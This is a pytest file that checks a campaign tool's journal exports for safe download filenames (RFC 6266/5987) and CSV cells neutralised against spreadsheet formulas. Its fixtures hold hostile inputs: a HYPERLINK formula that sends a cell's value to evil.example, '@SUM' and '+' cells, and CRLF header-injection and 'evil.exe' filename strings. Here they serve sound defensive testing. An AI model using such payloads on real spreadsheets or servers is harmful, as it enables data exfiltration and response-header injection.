"""Journal exports (issue 15, items 7 and 8): download names that any hospital id can
give without breaking or injecting the header (RFC 6266 / RFC 5987), and CSV cells a
spreadsheet cannot run as formulas, on the web export and in ``lazaretto journal --csv``."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient

from lazaretto.api.app import create_app
from lazaretto.core.character import Character
from lazaretto.service.accounts import AccountService
from lazaretto.service.campaigns import CampaignService
from lazaretto.service.demo import CAMPAIGN, seed
from lazaretto.service.exports import content_disposition, csv_cell
from lazaretto.store.db import Database
from tests.e2e.clitools import cli_runner, ok
from tests.e2e.webtools import C, hidden

CYRILLIC = "госпиталь"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def db(tmp_path: Path) -> Iterator[Database]:
    """The demo campaign, plus a hospital with a Cyrillic id where a character whose
    name and wound location a player typed as formulas is admitted."""
    database = Database(f"sqlite:///{tmp_path / 'w.db'}")
    campaigns = CampaignService(database)
    seed(campaigns, AccountService(database))
    campaigns.act(
        CAMPAIGN,
        "register-hospital",
        {
            "id": CYRILLIC,
            "name": "Полевой",
            "number": "9",
            "tables": [{"id": "t1"}],
            "beds": [{"id": "b1"}, {"id": "b2"}],
        },
    )
    campaigns.add_character(
        CAMPAIGN, Character(id="2001", name=FORMULA, hits_max=3, hits=3, race="+race", age=20)
    )
    campaigns.act(CAMPAIGN, "lose-hits", {"character": "2001", "hits": 1, "location": "@SUM(A1)"})
    campaigns.act(CAMPAIGN, "admit", {"hospital": CYRILLIC, "patient": "2001", "healer": "1005"})
    yield database
    database.close()


@pytest.fixture
def master(db: Database) -> Iterator[TestClient]:
    with TestClient(create_app(db, ticker=False), headers={"Accept": "text/html"}) as client:
        form = client.get("/login")
        data = {"username": "master", "password": "master-demo", "pre": hidden(form.text, "pre")}
        assert client.post("/login", data=data, follow_redirects=False).status_code == 303
        yield client


def download_name(header: str) -> str:
    """The name a browser saves: ``filename*`` when present (RFC 6266 §4.3)."""
    star = header.split("filename*=UTF-8''", 1)[1].split(";")[0]
    return unquote(star, errors="strict")


@pytest.mark.parametrize("kind", ["csv", "pdf"])
def test_a_journal_with_a_cyrillic_hospital_id_downloads_under_its_name(
    master: TestClient, kind: str
) -> None:
    r = master.get(f"{C}/journal.{kind}", params={"hospital": CYRILLIC})
    assert r.status_code == 200, r.text
    header = r.headers["content-disposition"]
    assert download_name(header) == f"journal-{CAMPAIGN}-{CYRILLIC}.{kind}"
    assert header.startswith('attachment; filename="journal-') and header.isascii()


@pytest.mark.parametrize(
    "hospital", ['h1"; filename="evil.exe', "h1\r\nSet-Cookie: x=1", "h1\\", "h1\t\x7f"]
)
def test_quotes_and_line_breaks_in_the_hospital_neither_break_nor_inject_the_header(
    master: TestClient, hospital: str
) -> None:
    r = master.get(f"{C}/journal.csv", params={"hospital": hospital})
    assert r.status_code == 200
    header = r.headers["content-disposition"]
    assert "set-cookie" not in {k.lower() for k in r.headers if k.lower() != "content-disposition"}
    assert header.count("filename=") == 1 and header.count("filename*=") == 1
    fallback = header.split('filename="', 1)[1].split('"', 1)[0]
    assert all(ch.isalnum() or ch in "._-" for ch in fallback), fallback
    assert "\r" not in download_name(header) and "\n" not in download_name(header)


def test_the_header_builder_keeps_only_safe_ascii_in_the_fallback() -> None:
    assert content_disposition("journal-Café.csv") == (
        "attachment; filename=\"journal-Cafe.csv\"; filename*=UTF-8''journal-Caf%C3%A9.csv"
    )
    assert content_disposition(f"{CYRILLIC}.pdf").startswith('attachment; filename="download.pdf"')


def test_the_web_csv_neutralises_every_cell_a_player_could_have_typed(master: TestClient) -> None:
    r = master.get(f"{C}/journal.csv", params={"hospital": CYRILLIC})
    rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))
    cells = [v for row in rows for v in row.values() if v]
    assert rows and f"'{FORMULA}" in cells, rows
    assert not [v for v in cells if v.startswith(("=", "+", "@", "\t", "\r"))], cells
    assert not [v for v in cells if v.startswith("-") and not v.lstrip("-").isdigit()], cells


def test_the_cli_csv_neutralises_every_cell_a_player_could_have_typed(db: Database) -> None:
    run = cli_runner(Path(db.url.removeprefix("sqlite:///")))
    out = ok(run("-c", CAMPAIGN, "journal", "--hospital", CYRILLIC, "--csv"))
    rows = list(csv.DictReader(io.StringIO(out)))
    cells = [v for row in rows for v in row.values() if v]
    assert rows and f"'{FORMULA}" in cells and "'+race" in cells, rows
    assert not [v for v in cells if v.startswith(("=", "+", "@", "\t", "\r"))], cells


def test_our_own_numbers_stay_numbers_and_text_is_neutralised() -> None:
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell(None) is None
    assert [csv_cell(v) for v in ("-3", "+1", "@a", "\tx", "\rx", "=1", "ok")] == [
        "'-3",
        "'+1",
        "'@a",
        "'\tx",
        "'\rx",
        "'=1",
        "ok",
    ]
    assert csv_cell(["=a", "b"]) == "'=a; b"
